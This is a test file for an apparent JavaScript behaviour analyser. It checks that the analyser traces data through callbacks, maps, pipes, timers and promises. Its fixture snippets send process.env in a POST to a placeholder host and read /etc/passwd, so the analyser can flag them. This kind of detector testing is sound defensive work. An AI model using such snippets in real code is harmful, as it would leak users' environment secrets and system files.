import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../../../test/behave.ts';

const SEND = `body => fetch('https://a.invalid', { method: 'POST', body })`;
const SENT = 'process.env → fetch as content';

function flows(code: string): string[] {
  return flowLines({ 'index.js': code });
}

describe('a function that is handed over is called with what its own caller passes', () => {
  const cases: readonly (readonly [string, string])[] = [
    [
      'the second that is handed over',
      `const use = (value, visit) => visit(value); use('x', one => one.length); use(process.env, ${SEND});`,
    ],
    [
      'the third, under a name',
      `const send = ${SEND}; const use = (value, visit) => visit(value); use(1, String); use(2, one => one); use(process.env, send);`,
    ],
    [
      'made of what is passed',
      `const use = (value, visit) => visit(JSON.stringify(value)); use('x', one => one.length); use(process.env, ${SEND});`,
    ],
    ['kept in a table', `const table = new Map([['a', () => process.env], ['b', ${SEND}]]); table.get('b')(table.get('a')());`],
    [
      'begun with',
      `const pipe = (value, ...steps) => steps.reduce((made, step) => step(made), value); pipe(process.env, one => one, ${SEND});`,
    ],
    ['handed to a timer', `setTimeout((value, visit) => visit(value), 1, process.env, ${SEND});`],
  ];
  for (const [how, code] of cases) it(how, () => assert.ok(flows(code).includes(SENT), flows(code).join('\n')));
});

describe('and with nothing that others pass', () => {
  const cases: readonly (readonly [string, string])[] = [
    [
      'what another one is called with',
      `const use = (value, visit) => visit(value); use('x', one => one); use(process.env, one => one); use('y', ${SEND});`,
    ],
    [
      'what the function keeps',
      `const use = (value, visit) => { keep = value; visit('x'); }; let keep; use('x', one => one); use(process.env, ${SEND});`,
    ],
  ];
  for (const [how, code] of cases) it(how, () => assert.deepEqual(flows(code), []));
});

describe('what a function is called with first is known', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['by a promise', `Promise.resolve('/etc/passwd').then(path => require('fs').readFileSync(path));`],
    ['by a reduction', `[path => require('fs').readFileSync(path), String].reduce((value, step) => step(value), '/etc/passwd');`],
  ];
  for (const [how, code] of cases)
    it(how, () => {
      const deeds = behaviourOf({ 'index.js': code }).effects.map(lineOf);
      assert.ok(deeds.includes('import reads file fs.readFileSync(/etc/passwd)'), deeds.join('\n'));
    });
});
